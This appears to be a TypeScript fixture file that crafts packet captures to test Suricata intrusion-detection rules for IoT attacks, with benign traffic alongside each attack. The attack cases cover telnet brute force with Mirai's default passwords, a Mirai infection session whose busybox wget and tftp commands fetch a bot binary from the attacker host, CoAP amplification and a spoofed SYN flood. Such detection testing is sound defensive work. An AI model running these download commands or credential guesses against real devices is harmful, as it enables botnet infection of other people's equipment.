/**
 * Crafted captures for the host-level families (brute force, Mirai, CoAP, scans, floods). Each
 * capture has its own addresses (see CaptureNet), so many can share one Suricata run without their
 * flows or per-address thresholds mixing. Comments say why each packet is there.
 */
import { coapMessage } from './iot-packets.ts';
import { Capture, icmpUnreachableFrame, tcpFrame, udpFrame, TCP_SYN } from './pcap.ts';
import type { CraftedCapture } from './ids-captures.ts';

function telnetLogin(
  cap: Capture,
  client: string,
  server: string,
  port: number,
  user: string,
  password: string,
  ok: boolean,
) {
  const s = cap.tcp({ ip: client, port }, { ip: server, port: 23 });
  s.fromServer('\r\nlogin: ').fromClient(`${user}\r\n`).fromServer('Password: ').fromClient(`${password}\r\n`);
  s.fromServer(ok ? '\r\nBusyBox v1.31.1 built-in shell (ash)\r\n# ' : '\r\nLogin incorrect\r\n');
  return s;
}

export const HOST_CAPTURES: CraftedCapture[] = [
  {
    name: 'telnet-bruteforce',
    family: 'bruteforce',
    kind: 'attack',
    expectSids: [1_711_001, 1_711_002],
    why: 'a bot tries 12 default passwords, one telnet connection each (Mirai reconnects per guess)',
    build(cap, n) {
      const guesses = [
        'admin',
        '1234',
        'xc3511',
        'vizxv',
        'root',
        'default',
        'juantech',
        '123456',
        '54321',
        'support',
        'password',
        'anko',
      ];
      guesses.forEach((pw, i) => telnetLogin(cap, n.attacker, n.device, 40000 + i, 'root', pw, false).close());
    },
  },
  {
    name: 'ssh-bruteforce',
    family: 'bruteforce',
    kind: 'attack',
    expectSids: [1_711_003],
    why: '12 short SSH sessions from one outside address: banner exchange, then the guess fails and it hangs up',
    build(cap, n) {
      for (let i = 0; i < 12; i++) {
        cap
          .tcp({ ip: n.attacker, port: 41000 + i }, { ip: n.device, port: 22 })
          .fromClient('SSH-2.0-libssh2_1.9.0\r\n')
          .fromServer('SSH-2.0-dropbear_2019.78\r\n')
          .close();
      }
    },
  },
  {
    name: 'telnet-operator',
    family: 'bruteforce',
    kind: 'benign',
    why: 'an operator mistypes once, logs in, and runs BusyBox commands a maintainer uses (uptime, ls, cat /proc)',
    build(cap, n) {
      telnetLogin(cap, n.peer, n.device, 42000, 'ops', 'typo', false).close();
      const s = telnetLogin(cap, n.peer, n.device, 42001, 'ops', 'correct horse', true);
      s.fromClient('/bin/busybox uptime\r\n').fromServer(' 10:01:02 up 3 days,  load average: 0.01\r\n# ');
      s.fromClient('cat /proc/meminfo | head -2; ls /tmp\r\n')
        .fromServer('MemTotal: 61440 kB\r\nMemFree: 20480 kB\r\nsensor.log\r\n# ')
        .close();
      for (let i = 0; i < 3; i++)
        cap
          .tcp({ ip: n.peer, port: 42100 + i }, { ip: n.device, port: 22 })
          .fromClient('SSH-2.0-OpenSSH_9.2\r\n')
          .fromServer('SSH-2.0-OpenSSH_9.2\r\n')
          .close();
    },
  },
  {
    name: 'mirai-infection',
    family: 'mirai',
    kind: 'attack',
    expectSids: [1_711_010, 1_711_011, 1_711_013, 1_711_014],
    why: 'Mirai after a default-credential login: shell escape words, the ECCHI probe and its answer, then wget and tftp loader downloads',
    build(cap, n) {
      const s = telnetLogin(cap, n.attacker, n.device, 43000, 'root', 'xc3511', true);
      s.fromClient('enable\r\nsystem\r\nshell\r\nsh\r\n').fromServer('# ');
      s.fromClient('/bin/busybox ECCHI\r\n').fromServer('ECCHI: applet not found\r\n# ');
      s.fromClient(
        `/bin/busybox wget http://${n.attacker}/bins/mirai.arm7 -O /tmp/.m; chmod 777 /tmp/.m\r\n`,
      ).fromServer('# ');
      s.fromClient(`/bin/busybox tftp -g -r mirai.mips ${n.attacker}\r\n`).fromServer('# ').close();
    },
  },
  {
    name: 'botnet-applet-probe',
    family: 'mirai',
    kind: 'attack',
    expectSids: [1_711_012],
    why: 'a Mirai variant (OKIRU) probes with its own upper-case applet name',
    build(cap, n) {
      const s = telnetLogin(cap, n.attacker, n.device, 43100, 'admin', 'admin', true);
      s.fromClient('/bin/busybox OKIRU\r\n').fromServer('OKIRU: applet not found\r\n# ').close();
    },
  },
  {
    name: 'device-fetches-bot',
    family: 'mirai',
    kind: 'attack',
    expectSids: [1_711_015],
    why: 'an infected camera downloads the ARMv7 bot build from the loader over HTTP',
    build(cap, n) {
      const s = cap.tcp({ ip: n.device, port: 43200 }, { ip: n.attacker, port: 80 });
      s.fromClient(`GET /bins/mirai.arm7 HTTP/1.1\r\nHost: ${n.attacker}\r\nUser-Agent: Wget(linux)\r\n\r\n`);
      s.fromServer(
        'HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\nContent-Length: 16\r\n\r\n\x7fELF\x01\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00',
      ).close();
    },
  },
  {
    name: 'device-fetches-firmware-manifest',
    family: 'mirai',
    kind: 'benign',
    why: 'a device checks its vendor for updates (JSON manifest) the way a healthy one does',
    build(cap, n) {
      const s = cap.tcp({ ip: n.device, port: 43300 }, { ip: n.peer, port: 80 });
      s.fromClient(
        `GET /firmware/cam-x2/manifest.json HTTP/1.1\r\nHost: updates.example\r\nUser-Agent: cam-x2/4.1\r\n\r\n`,
      );
      s.fromServer(
        'HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 17\r\n\r\n{"latest":"4.1"}\n',
      ).close();
    },
  },
  {
    name: 'coap-discovery',
    family: 'coap',
    kind: 'attack',
    expectSids: [1_711_060],
    why: 'a scanner asks a device for /.well-known/core and gets its resource list',
    build(cap, n) {
      const src = { ip: n.attacker, port: 44000 };
      const dev = { ip: n.device, port: 5683 };
      cap.udp(src, dev, coapMessage('CON', 0x01, 0x1001, ['.well-known', 'core']));
      cap.udp(
        dev,
        src,
        coapMessage('ACK', 0x45, 0x1001, [], Buffer.from('</sensors/temp>;rt="temperature";if="sensor"')),
      );
    },
  },
  {
    name: 'coap-amplification',
    family: 'coap',
    kind: 'attack',
    expectSids: [1_711_060, 1_711_061],
    why: 'requests spoofed with the victim as source: each small discovery request draws a 900-byte answer to the victim',
    build(cap, n) {
      const victim = { ip: n.attacker, port: 44100 };
      const dev = { ip: n.device, port: 5683 };
      const links = Array.from({ length: 20 }, (_, i) => `</light/${i}>;rt="light";if="actuator";ct=40`).join(',');
      for (let i = 0; i < 6; i++) {
        cap.udp(victim, dev, coapMessage('NON', 0x01, 0x2000 + i, ['.well-known', 'core']));
        cap.udp(dev, victim, coapMessage('ACK', 0x45, 0x2000 + i, [], Buffer.from(links.slice(0, 900))));
      }
    },
  },
  {
    name: 'coap-normal-use',
    family: 'coap',
    kind: 'benign',
    why: 'the city platform (outside) and a local app read one sensor each: small requests, small answers',
    build(cap, n) {
      for (const [client, port] of [
        [n.peer, 44200],
        [n.insider, 44201],
      ] as const) {
        cap.udp(
          { ip: client, port },
          { ip: n.device, port: 5683 },
          coapMessage('CON', 0x01, port, ['sensors', 'temp']),
        );
        cap.udp(
          { ip: n.device, port: 5683 },
          { ip: client, port },
          coapMessage('ACK', 0x45, port, [], Buffer.from('21.5')),
        );
      }
      cap.udp(
        { ip: n.insider, port: 44202 },
        { ip: n.device, port: 5683 },
        coapMessage('CON', 0x01, 7, ['.well-known', 'core']),
      );
    },
  },
  {
    name: 'iot-port-scan',
    family: 'scan',
    kind: 'attack',
    expectSids: [1_711_070, 1_711_071],
    why: 'one source sweeps 25 IoT service ports over two devices; the closed ones answer RST',
    build(cap, n) {
      const ports = [
        21, 22, 23, 80, 81, 443, 502, 554, 1883, 2323, 5555, 7547, 8080, 8081, 8443, 8883, 20000, 37215, 37777, 44818,
        52869,
      ];
      ports.forEach((p, i) => cap.synRefused({ ip: n.attacker, port: 45000 + i }, { ip: n.device, port: p }));
      [80, 554, 8080, 37777].forEach((p, i) =>
        cap.synRefused({ ip: n.attacker, port: 45100 + i }, { ip: n.device2, port: p }),
      );
    },
  },
  {
    name: 'udp-scan',
    family: 'scan',
    kind: 'attack',
    expectSids: [1_711_072],
    why: 'UDP probes of 12 closed ports, each answered by ICMP port unreachable',
    build(cap, n) {
      for (let i = 0; i < 12; i++) {
        const probe = udpFrame(
          { ip: n.attacker, port: 46000 },
          { ip: n.device, port: 1000 + i * 7 },
          Buffer.from('probe'),
        );
        cap.add(probe);
        cap.add(icmpUnreachableFrame(n.device, n.attacker, 3, probe));
      }
    },
  },
  {
    name: 'normal-connections',
    family: 'scan',
    kind: 'benign',
    why: 'a client opens three web sessions, hits one closed port and one closed UDP port: everyday noise',
    build(cap, n) {
      for (let i = 0; i < 3; i++)
        cap
          .tcp({ ip: n.peer, port: 47000 + i }, { ip: n.device, port: 80 })
          .fromClient('GET / HTTP/1.1\r\nHost: d\r\n\r\n')
          .fromServer('HTTP/1.1 204 No Content\r\n\r\n')
          .close();
      cap.synRefused({ ip: n.peer, port: 47010 }, { ip: n.device, port: 8081 });
      const probe = udpFrame({ ip: n.peer, port: 47020 }, { ip: n.device, port: 161 }, Buffer.from('x'));
      cap.add(probe);
      cap.add(icmpUnreachableFrame(n.device, n.peer, 3, probe));
    },
  },
  {
    name: 'syn-flood',
    family: 'flood',
    kind: 'attack',
    expectSids: [1_711_080],
    why: '600 SYNs in about a second at one device, each from a different spoofed source',
    build(cap, n) {
      for (let i = 0; i < 600; i++) {
        const spoofed = `100.${64 + (i % 50)}.${Math.floor(i / 50)}.${((i * 7) % 250) + 1}`;
        cap.add(tcpFrame({ ip: spoofed, port: 1024 + i }, { ip: n.device, port: 80 }, TCP_SYN, 1000 + i, 0), 1500);
      }
    },
  },
  {
    name: 'busy-web-device',
    family: 'flood',
    kind: 'benign',
    why: '60 clients each open a normal connection to a device in ten seconds',
    build(cap, n) {
      for (let i = 0; i < 60; i++) {
        cap
          .tcp({ ip: `198.51.100.${100 + i}`, port: 48000 + i }, { ip: n.device, port: 80 })
          .fromClient('GET /s HTTP/1.1\r\nHost: d\r\n\r\n')
          .fromServer('HTTP/1.1 204 No Content\r\n\r\n')
          .close();
        cap.wait(150);
      }
    },
  },
];
